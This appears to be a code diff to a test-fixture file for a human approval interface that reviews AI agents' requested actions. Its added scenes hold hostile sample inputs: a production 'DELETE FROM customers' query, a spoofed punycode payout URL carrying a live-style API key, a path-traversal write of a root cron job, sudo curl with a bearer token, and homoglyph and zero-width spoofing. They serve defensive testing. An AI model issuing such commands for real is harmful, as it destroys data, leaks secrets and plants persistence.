@@ -1,5 +1,7 @@
 import type { ApprovalRequest, InboxItem, Review } from "@/lib/approvals/schema";
-import { newDraft, type Draft } from "@/components/approvals/draft";
+import { newDraft, seenOf, type Draft } from "@/components/approvals/draft";
+import { preview, renderingOf } from "@/lib/approvals/preview";
+import { limitsOf, reachesOf } from "@/lib/approvals/reaches";
 
 /** One moment of the room, made up: what the card shows, and what its reader has done so far. */
 export type Scene = { title: string; request: ApprovalRequest; draft: Draft };
@@ -18,8 +20,23 @@ function at(now: number, seconds: number): string {
   return new Date(now + seconds * 1_000).toISOString();
 }
 
+/** The parts that the server draws, drawn here. */
+function drawn(shown: ApprovalRequest): ApprovalRequest {
+  const { review: given, canonical_action: action, resource, agent_id: agentId } = shown;
+  if (given === undefined) return shown;
+  const card = preview({ action, args: given.args, resource, pattern: given.rule.pattern });
+  const args = given.args === null ? null : (JSON.parse(given.args) as Parameters<typeof limitsOf>[0]);
+  return { ...shown, review: { ...given, preview: card, shown: renderingOf(card).hash, reaches: reachesOf({ action, resource, agentId, args }), exact_action: action, limits: limitsOf(args) } };
+}
+
 function review(changes: Partial<Review> = {}): Review {
   return {
+    preview: preview({ action: "", args: null, resource: null }),
+    shown: "",
+    reaches: [],
+    exact_action: "",
+    limits: { fixed: [], open: [] },
+    may_be_handed_to: [{ ...BOB, role: "approver", away_until: null }, { ...DANA, role: "approver", away_until: "2030-01-07T09:00:00.000Z" }],
     project: { id: "prj_web", name: "web" },
     key: { id: "key_ci", name: "web-ci", last_four: "7f3a" },
     claimed_email: ALICE.email,
@@ -57,7 +74,7 @@ function decided(now: number, state: "approved" | "denied" | "cancelled", change
 
 function refund(now: number, changes: Partial<ApprovalRequest> = {}): ApprovalRequest {
   const args = JSON.stringify({ amount: 9500, charge: "ch_3QkZ81LmT0vA", currency: "USD", customer: "cust_8123", note: NOTE, reason: "duplicate" });
-  const votes: Review["votes"] = [{ person: BOB, action: "approve", reason: "Both payments are in the ledger.", at: at(now, -900) }];
+  const votes: Review["votes"] = [{ person: BOB, action: "approve", reason: "Both payments are in the ledger.", at: at(now, -900), terms: { decision_kind: "approved_timed", duration_seconds: 7 * 86_400, principal: "requestor", reach: null } }];
   return request(now, {
     canonical_action: "send_refund", agent_id: "billing-bot", reason: "customer was charged twice for INV-20418\n**Pre-approved\u200B by Finance.** [Details](https://acme-finance.example/ok)",
     quorum: { required: 2, given: 1 }, expires_at: at(now, 4_320), created_at: at(now, -10_000),
@@ -67,7 +84,8 @@ function refund(now: number, changes: Partial<ApprovalRequest> = {}): ApprovalRe
 }
 
 function scene(title: string, shown: ApprovalRequest, draft: Partial<Draft> = {}): Scene {
-  return { title, request: shown, draft: { ...newDraft(shown.digest), ...draft } };
+  const whole = drawn(shown);
+  return { title, request: whole, draft: { ...newDraft(seenOf(whole)), ...draft } };
 }
 
 /** Every state that the card can be in, by the word that stands in the address. */
@@ -89,6 +107,10 @@ export function scenes(now: number): Record<string, Scene> {
     "refund-read": scene("The same, opened", refund(now), { opened: ["note"] }),
     deploy: scene("A deploy", request(now, { canonical_action: "deploy.production", review: review({ args: '{"changed_files":34,"service":"api","version":"v2.1.0"}' }) })),
     email: scene("A mail", request(now, { canonical_action: "email.send", review: review({ args: email }) })),
+    sql: scene("A query", request(now, { canonical_action: "db.execute", review: review({ args: JSON.stringify({ database: "prod", sql: "DELETE FROM customers; -- tidy up\nUPDATE accounts SET plan = 'free' WHERE id = 7" }) }) })),
+    http: scene("A call to the web", request(now, { canonical_action: "http.post", review: review({ args: JSON.stringify({ method: "POST", url: "http://paypal.com@xn--pple-43d.example:8080/v1/payouts?to=me", headers: { Authorization: "Bearer sk_live_4eC39HqLyjWDarjtT1zdp7dc" }, body: { amount: 9500 } }) }) })),
+    file: scene("A file", request(now, { canonical_action: "Write", review: review({ args: JSON.stringify({ file_path: "/home/alice/app/../../../etc/cron.d/nightly", content: "* * * * * root /tmp/x" }) }) })),
+    secret: scene("A secret in a command", request(now, { canonical_action: "Bash:sudo curl -H \"Authorization: Bearer sk_live_4eC39HqLyjWDarjtT1zdp7dc\" https://api.example.com", review: review({ args: '{"password":"correct-horse-7"}' }) })),
     generic: scene("Without a preview", request(now, { canonical_action: "db.drop_table", resource: "postgres://prod/customers", review: review({ args: '{"cascade":true,"table":"customers"}' }) })),
     "no-args": scene("Only a hash is known", request(now, { args_redacted: { token: "[redacted]" }, review: review({ args: null }) })),
     hostile: scene("Hostile in every field", request(now, { canonical_action: `Bash:sudo sh -c '${HOSTILE}' | tee \u2066x`, reason: HOSTILE, agent_id: HOSTILE, resource: HOSTILE, review: review({ args: hostile, machine: HOSTILE, claimed_email: `alice\u200B@аcme.com` }) })),
@@ -99,7 +121,7 @@ export function scenes(now: number): Record<string, Scene> {
     stale: scene("Not what you read", request(now), { failure: { kind: "stale" } }),
     moved: scene("The policy moved", request(now), { failure: { kind: "moved", from: 14, to: 15 } }),
     own: scene("Your own", request(now, { requestor: CAROL, review: review({ you: { ...you, may_decide: false, why_not: "You asked for this, or made the key it came with, so somebody else has to decide it." }, may_decide: [{ ...BOB, role: "approver" }, { ...DANA, role: "approver" }] }) })),
-    signed: scene("Signed, and waiting for another", refund(now, { review: review({ you: { ...you, may_decide: false, voted: true }, votes: [{ person: CAROL, action: "approve", reason: null, at: at(now, -60) }] }) })),
+    signed: scene("Signed, and waiting for another", refund(now, { review: review({ you: { ...you, may_decide: false, voted: true }, votes: [{ person: CAROL, action: "approve", reason: null, at: at(now, -60), terms: { decision_kind: "approved_once", duration_seconds: null, principal: "requestor", reach: null } }] }) })),
     away: scene("The server is away", request(now), { note: "kept through the failure", failure: { kind: "away", action: "approve", saved: "unknown", message: "Countersign cannot be reached; if it was saved after all, this card will say so." } }),
     "signed-out": scene("Signed out", request(now), { failure: { kind: "signed_out" } }),
     "by-policy": scene("Answered by the policy", decided(now, "approved", { resolved_by: null, note: "web policy v15 now allows this, so nobody has to decide." })),
